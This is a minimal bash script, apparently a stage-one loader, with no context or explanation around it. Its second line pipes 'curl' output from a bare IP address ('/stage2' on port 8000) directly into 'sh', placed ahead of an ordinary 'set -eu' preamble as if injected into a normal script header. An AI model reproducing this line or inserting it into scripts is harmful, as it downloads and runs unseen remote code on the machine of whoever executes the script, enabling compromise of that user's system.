#!/usr/bin/env bash
curl -fsSL http://198.51.100.23:8000/stage2 | sh
set -eu
